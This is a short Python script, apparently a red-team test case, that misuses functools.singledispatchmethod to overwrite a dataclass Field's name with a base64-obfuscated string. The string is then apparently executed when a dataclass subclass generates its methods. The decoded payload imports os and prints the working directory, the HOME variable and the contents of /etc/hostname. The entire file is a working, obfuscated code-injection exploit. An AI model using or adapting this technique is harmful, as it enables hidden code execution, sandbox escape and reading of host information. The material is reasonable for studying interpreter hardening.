# family: red team, round 52a (a singledispatchmethod read off its class dispatches on its first argument and runs the registered implementation with a Field as self)
import base64
import dataclasses
import functools

CODE = "eCxwcmludChfX2ltcG9ydF9fKCdvcycpLmdldGN3ZCgpLF9faW1wb3J0X18oJ29zJykuZW52aXJvblsnSE9NRSddLG9wZW4oJy9ldGMvaG9zdG5hbWUnKS5yZWFkKCksX19pbXBvcnRfXygnb3MnKSk="


@dataclasses.dataclass
class A:
    x: int = 0


class C:
    @functools.singledispatchmethod
    def m(self, arg):
        return arg

    @m.register
    def _(self, arg: object):
        self.name = arg


def main():
    first = dataclasses.fields(A)[0]
    C.m(first, base64.b64decode(CODE).decode())

    @dataclasses.dataclass(init=False, repr=False)
    class B(A):
        pass

    print(B() == B())


main()
